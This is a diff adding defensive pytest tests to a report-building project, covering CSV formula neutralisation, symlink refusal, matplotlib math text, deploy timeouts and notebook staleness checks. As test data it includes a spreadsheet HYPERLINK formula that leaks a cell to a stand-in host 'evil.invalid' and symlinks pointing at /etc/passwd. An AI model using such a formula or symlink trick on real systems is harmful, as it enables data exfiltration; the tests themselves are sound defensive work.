@@ -18,6 +18,7 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pandas as pd
 import pytest
 import yaml
 
@@ -68,6 +69,117 @@ def test_tooltip_escapes_each_line_and_keeps_its_own_breaks():
     assert out.startswith("&lt;b&gt;bold&lt;/b&gt;<br>") and out.count("<br>") == 3
 
 
+# --- matplotlib reads no data text as math (issue 25, item 2) ------------------------------
+
+@pytest.mark.parametrize("item", ["Gerbera decoy drone $\\alpha^$ (unit build cost)", "$10k-$20k"])
+def test_matplotlib_draws_data_text_as_typed(tmp_path, monkeypatch, item):
+    """'$\\alpha^$' stopped the build with a notebook traceback; '$10k-$20k' lost its dollar
+    signs and turned italic. Here a chart is made as a chapter makes one, in a kernel whose
+    math parsing is on (as matplotlib starts), with the text as a tick label, title and legend."""
+    import matplotlib
+    matplotlib.use("Agg")
+    import matplotlib.pyplot as plt
+    from matplotlib.text import Text
+
+    from report.charts import matplotlib_chart
+
+    monkeypatch.setenv("REPORT_FIGURES_DIR", str(tmp_path))
+    with matplotlib.rc_context({"text.parse_math": True}):
+        fig, ax = plt.subplots()
+        ax.plot([10000, 20000], [0, 0], label=item)
+        ax.set_yticks([0], [item])
+        ax.set_title(item)
+        ax.legend()
+        texts = []
+        original = fig.savefig
+
+        def save_and_look(*args, **kwargs):
+            texts.extend(t for t in fig.findobj(Text) if item in t.get_text())
+            return original(*args, **kwargs)
+
+        fig.savefig = save_and_look
+        matplotlib_chart(fig, "hostile-costs", alt="a chart", source="data/costs.csv", data=pd.DataFrame({"item": [item]}))
+    assert len(texts) >= 3 and all(t._preprocess_math(t.get_text()) == (item, False) for t in texts)
+    assert (tmp_path / "hostile-costs.svg").stat().st_size > 0
+
+
+# --- published CSVs are safe in a spreadsheet (issue 25, item 6) -------------------------
+
+FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")'
+
+
+@pytest.mark.parametrize("cell, published", [
+    (FORMULA, "'" + FORMULA), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("-5", "-5"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-05", "1e-05"), ("Tallinn", "Tallinn")])
+def test_csv_cells_are_neutralised_the_owasp_way(cell, published):
+    assert escape.csv_cell(cell) == published
+
+
+def _downloads(tmp_path, monkeypatch) -> tuple[Path, Path, Path]:
+    data, figures, out = tmp_path / "data", tmp_path / "figures", tmp_path / "site"
+    shutil.copytree(ROOT / "data", data)
+    figures.mkdir()
+    out.mkdir()
+    monkeypatch.setenv("REPORT_DATA_DIR", str(data))
+    monkeypatch.setenv("REPORT_FIGURES_DIR", str(figures))
+    return data, figures, out
+
+
+def test_every_published_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
+    """The data downloads, the chart data and the classroom zip: a formula is published as
+    text (a leading quote), a negative number stays a number. Validation refuses formulas in
+    the data already; this is the second lock, and the only one for computed chart data."""
+    import io
+    import zipfile
+
+    from report.sphinx_ext import copy_downloads
+
+    data, figures, out = _downloads(tmp_path, monkeypatch)
+    with (data / "incidents.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    rows[1][rows[0].index("notes")] = FORMULA
+    with (data / "incidents.csv").open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    (figures / "chart.csv").write_text(f'label,value\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\n@x,3\n', encoding="utf-8")
+    (figures / "chart.png").write_bytes(b"png")
+    copy_downloads(out)
+    with zipfile.ZipFile(out / "downloads" / "data-exercise.zip") as archive:
+        zipped = archive.read("data-exercise/incidents.csv").decode("utf-8")
+    for text in ((out / "data" / "incidents.csv").read_text(encoding="utf-8"), zipped):
+        published = list(csv.reader(io.StringIO(text)))
+        assert published[1][published[0].index("notes")] == "'" + FORMULA
+        assert not any(cell.startswith(("=", "+", "@")) for row in published for cell in row)
+    chart = list(csv.reader(io.StringIO((out / "figures" / "chart.csv").read_text(encoding="utf-8"))))
+    assert chart == [["label", "value"], ["'" + FORMULA, "-5"], ["'@x", "3"]]
+    assert (out / "figures" / "chart.png").read_bytes() == b"png"
+    # A file with nothing to neutralise is published byte for byte.
+    assert (out / "data" / "sources.csv").read_bytes() == (data / "sources.csv").read_bytes()
+
+
+# --- symbolic links are never followed into the site (issue 25, items 8 and 9) -----------
+
+@pytest.mark.parametrize("kind", ["file", "folder", "data-file"])
+def test_a_symlink_the_site_would_copy_stops_the_build(tmp_path, monkeypatch, kind):
+    from sphinx.errors import ExtensionError
+
+    from report.sphinx_ext import copy_downloads
+
+    data, figures, out = _downloads(tmp_path, monkeypatch)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.csv").write_text("CANARY-outside-the-repository\n", encoding="utf-8")
+    if kind == "file":
+        (figures / "chart.csv").symlink_to(outside / "secret.csv")
+    elif kind == "folder":
+        (figures / "more").symlink_to(outside)
+    else:
+        (data / "incidents.csv").unlink()
+        (data / "incidents.csv").symlink_to(outside / "secret.csv")
+    with pytest.raises(ExtensionError, match="symbolic links"):
+        copy_downloads(out)
+    assert not any("CANARY" in p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
+
+
 # --- the offline check -------------------------------------------------------------------
 
 @pytest.mark.parametrize("snippet", [
@@ -109,6 +221,19 @@ def test_deploy_workflow_is_pinned_and_least_privileged():
     assert set(workflow["jobs"]["deploy"]["permissions"]) == {"pages", "id-token"}
     checkout = [step for step in workflow["jobs"]["build"]["steps"] if "checkout" in step.get("uses", "")]
     assert checkout and all(step["with"]["persist-credentials"] is False for step in checkout)
+
+
+def test_deploy_workflow_never_hangs_and_never_cancels_a_deploy_under_way():
+    """Issue 25, item 14: no job had a time limit (a hung build held a runner for hours), and
+    `cancel-in-progress: true` for the whole workflow could cancel a deploy already under way.
+    A newer push may cancel an older build; a deploy that has started always finishes."""
+    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8"))
+    jobs = workflow["jobs"]
+    assert all(0 < job.get("timeout-minutes", 0) <= 120 for job in jobs.values()), \
+        {name: job.get("timeout-minutes") for name, job in jobs.items()}
+    assert "concurrency" not in workflow or workflow["concurrency"].get("cancel-in-progress") is False
+    assert jobs["deploy"]["concurrency"]["cancel-in-progress"] is False
+    assert jobs["build"]["concurrency"]["group"] != jobs["deploy"]["concurrency"]["group"]
 
 
 # --- one build with hostile text in every free-text cell -------------------------------
@@ -172,13 +297,22 @@ def test_no_file_from_outside_the_repository_reaches_the_book(hostile_build):
     for path in site.rglob("*"):
         if path.is_file() and path.suffix in {".html", ".js", ".txt", ".csv", ".json", ".xml"}:
             assert secret not in path.read_text(encoding="utf-8", errors="replace"), path
-    pdf_text = subprocess.run(["pdftotext", str(repo / "_build" / "pdf" / "book.pdf"), "-"],
-                              capture_output=True, text=True, check=True).stdout
-    assert secret not in pdf_text
-    # The hostile text itself is there, as text (the LaTeX command shown, not run).
-    assert "input" in pdf_text and "onerror" in pdf_text
-    for word in ("R&D", "100%", "$5", "a_b", "< 5 minutes"):
-        assert word in pdf_text, word
+    # Every PDF the build makes: the book, the appendix, the packs, the keys and the slides.
+    sys.path.insert(0, str(ROOT / "scripts"))
+    from build_book import PACK_NAMES
+
+    pdfs = [site / "book.pdf", site / "appendix.pdf", repo / "_build" / "pdf" / "book.pdf",
+            repo / "_build" / "pdf" / "appendix.pdf"] + [site / "packs" / f"{name}.pdf" for name in PACK_NAMES]
+    assert sorted(p.name for p in site.rglob("*.pdf")) == sorted({p.name for p in pdfs}), "a PDF is not checked"
+    for path in pdfs:
+        pdf_text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
+        assert secret not in pdf_text, path.name
+        assert len(pdf_text) > 500, path.name
+        if path.name in ("book.pdf", "appendix.pdf"):
+            # The hostile text itself is there, as text (the LaTeX command shown, not run).
+            assert "input" in pdf_text and "onerror" in pdf_text, path.name
+            for word in ("R&D", "100%", "$5", "a_b", "< 5 minutes"):
+                assert word in pdf_text, (path.name, word)
 
 
 def test_hostile_text_runs_nothing_and_fetches_nothing_in_the_browser(hostile_build, browser):
@@ -230,6 +364,72 @@ def test_stored_outputs_are_refused_after_a_data_change(tmp_path):
                             env={**os.environ, "REPORT_DATA_DIR": str(data)}, capture_output=True, text=True, timeout=120)
     assert result.returncode != 0
     assert "stored outputs predate" in result.stderr and "execute_notebooks.py" in result.stderr
+
+
+def _notebook(*cells: tuple[str, str]) -> dict:
+    return {"cells": [{"id": f"cell-{index}", "cell_type": kind, "source": source, "metadata": {},
+                       **({"outputs": [], "execution_count": None} if kind == "code" else {})}
+                      for index, (kind, source) in enumerate(cells)],
+            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
+            "nbformat": 4, "nbformat_minor": 5}
+
+
+def test_stored_outputs_are_refused_after_a_change_to_the_notebooks_own_code(tmp_path, monkeypatch):
+    """Issue 25, item 12: a chart title changed in a chapter's code, or a new cell that
+    raises, built from stored outputs without complaint. A notebook records the hash of its
+    code cells when executed; the build compares it with the code as it is now."""
+    sys.path.insert(0, str(ROOT / "scripts"))
+    import build_book
+    import execute_notebooks
+
+    from report import paths
+
+    chapter = tmp_path / "chapters" / "10_chart.ipynb"
+    chapter.parent.mkdir()
+    chapter.write_text(json.dumps(_notebook(("markdown", "# Chart"), ("code", "title = 'Drones in September'"))))
+    monkeypatch.setattr(paths, "toc_notebooks", lambda: [chapter])
+    monkeypatch.setattr(build_book, "ROOT", tmp_path)
+    monkeypatch.setattr(execute_notebooks, "ROOT", tmp_path)
+    execute_notebooks.execute(chapter)  # a real execution records both fingerprints
+    assert build_book.stale_notebooks() == []
+
+    def edited(change) -> list[str]:
+        content = json.loads(chapter.read_text(encoding="utf-8"))
+        change(content["cells"])
+        edited_path = chapter.with_name("edited.ipynb")
+        edited_path.write_text(json.dumps(content), encoding="utf-8")
+        monkeypatch.setattr(paths, "toc_notebooks", lambda: [edited_path])
+        return build_book.stale_notebooks()
+
+    assert edited(lambda cells: cells[1].update(source="title = 'Drones in October'")) == ["chapters/edited.ipynb"]
+    assert edited(lambda cells: cells.append(_notebook(("code", "raise ValueError"))["cells"][0])) == \
+        ["chapters/edited.ipynb"]
+    assert edited(lambda cells: cells[0].update(source="# A chart")) == []  # prose needs no execution
+    monkeypatch.setattr(paths, "toc_notebooks", lambda: [chapter])
+    content = json.loads(chapter.read_text(encoding="utf-8"))
+    del content["metadata"]["report"]["code_fingerprint"]  # executed before this check existed
+    chapter.write_text(json.dumps(content), encoding="utf-8")
+    assert build_book.stale_notebooks() == ["chapters/10_chart.ipynb"]
+
+
+def test_a_symlink_among_the_build_inputs_stops_the_build_before_reading(tmp_path, monkeypatch):
+    """Issue 25, items 8 and 9: a symlink in figures/ (to a file or a folder outside the
+    repository) was copied into the site; one in data/ was read into the build log."""
+    sys.path.insert(0, str(ROOT / "scripts"))
+    import build_book
+
+    figures = tmp_path / "figures"
+    figures.mkdir()
+    (figures / "passwd.png").symlink_to("/etc/passwd")
+    (figures / "outside").symlink_to("/etc")
+    monkeypatch.setenv("REPORT_FIGURES_DIR", str(figures))
+    assert set(build_book.symlinks_in_inputs()) >= {figures / "passwd.png", figures / "outside"}
+    result = subprocess.run([sys.executable, str(ROOT / "scripts" / "build_book.py"), "--html-only"],
+                            env={**os.environ, "REPORT_FIGURES_DIR": str(figures)}, capture_output=True, text=True,
+                            timeout=120)
+    assert result.returncode == 1
+    assert result.stderr.startswith("build failed: symbolic links") and "passwd.png -> /etc/passwd" in result.stderr
+    assert "root:" not in result.stdout + result.stderr
 
 
 def test_the_stored_notebooks_were_executed_with_the_current_inputs():
